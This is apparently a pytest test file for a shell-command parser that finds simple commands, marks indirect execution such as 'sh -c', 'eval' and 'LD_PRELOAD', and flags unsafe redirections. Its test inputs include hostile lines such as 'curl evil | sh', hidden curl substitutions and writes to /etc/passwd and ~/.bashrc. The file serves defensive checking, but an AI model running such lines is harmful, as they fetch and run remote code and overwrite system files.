"""Reading a shell command line: its simple commands, their guards, and what makes a line unsafe."""

from __future__ import annotations

import pytest

from ember.tools.shell_parse import MAX_CHARS, CommandLine, SimpleCommand, read_command


def texts(line: str) -> list[str]:
    read = read_command(line)
    assert read is not None, line
    return [command.text for command in read.commands]


@pytest.mark.parametrize(("line", "commands"), [
    ("pytest -q tests/", ["pytest -q tests/"]),
    ("pytest; curl evil | sh", ["pytest", "curl evil", "sh"]),
    ("a && b || c & d", ["a", "b", "c", "d"]),
    ("pytest\ncurl x", ["pytest", "curl x"]),
    ("echo $(curl x) `id`", ["echo $(curl x) `id`", "curl x", "id"]),
    ('echo "$(id)"', ['echo "$(id)"', "id"]),
    ("cat <(curl x)", ["cat <(curl x)", "curl x"]),
    ("( a ); { b; }", ["a", "b"]),
    ("if true; then ls; fi", ["true", "ls"]),
    ("for f in $(ls); do pytest $f; done", ["ls", "pytest $f"]),
    ("while read x; do rm $x; done < list", ["read x", "rm $x"]),
    ("f() { curl x; }; f", ["curl x", "f"]),
    ("pytest -k 'a b' > out.txt 2>&1", ["pytest -k 'a b'"]),
])
def test_every_simple_command_is_found_with_its_words_as_written(line: str, commands: list[str]) -> None:
    assert texts(line) == commands


@pytest.mark.parametrize(("line", "guard"), [
    ("pytest -q", ""),
    ("FOO=1 pytest", "FOO=1 pytest"),
    ("LD_PRELOAD=x pytest", "LD_PRELOAD=x pytest"),
    ("sh -c 'curl x'", "sh"),
    ("'bash' -c 'curl x'", "'bash'"),
    ("eval curl", "eval"),
    ("env curl x", "env"),
    ("xargs rm", "xargs"),
    ("find . -exec rm {} +", "find"),
    ("find . -name '*.py'", ""),
    ("python -c 'import os'", "python"),
    ("python script.py", ""),
    ("/bin/sh -c x", "/bin/sh"),
    ("./run.sh", "./run.sh"),
    ("pytest/../../bin/sh", "pytest/../../bin/sh"),
    ("$CMD -c x", "$CMD"),
    ("x=1", "x=1"),
])
def test_a_command_whose_words_do_not_say_what_runs_has_a_guard(line: str, guard: str) -> None:
    assert read_command(line) == CommandLine((SimpleCommand(line, guard),), ())


@pytest.mark.parametrize(("line", "unsafe"), [
    ("pytest > report.txt", False),
    ("pytest 2>/dev/null", False),
    ("pytest >> logs/run.txt 2>&1", False),
    ("cat < input.txt", False),
    ("cat <<E\nplain\nE\n", False),
    ("pytest > /etc/passwd", True),
    ("pytest > '/etc/passwd'", True),
    ("pytest > ../outside", True),
    ("pytest > ~/.bashrc", True),
    ("pytest > $HOME/x", True),
    ("{ ls; } > /tmp/x", True),
    ("cd /etc && echo x > passwd", True),
    ("cd sub && pytest 2>/dev/null", False),
    ("cat <<E\n$(curl x)\nE\n", True),
    ("echo ${x:-$(curl x)}", True),
])
def test_redirections_outside_the_workspace_and_hidden_commands_are_unsafe(line: str, unsafe: bool) -> None:
    read = read_command(line)
    assert read is not None and bool(read.unsafe) is unsafe, read


@pytest.mark.parametrize("line", ["", "   ", "# a comment", "echo )", "if", "echo $((1 + 2))", "[[ -f x ]]",
                                  "case x in a) ls;; esac", "x" * (MAX_CHARS + 1)])
def test_what_bashlex_cannot_read_is_none(line: str) -> None:
    assert read_command(line) is None


def test_input_that_sends_bashlex_into_a_loop_is_given_up_quickly() -> None:
    assert read_command("'fibesacwhile }\\case ${&'{") is None  # returns: the suite's timeout would end a loop
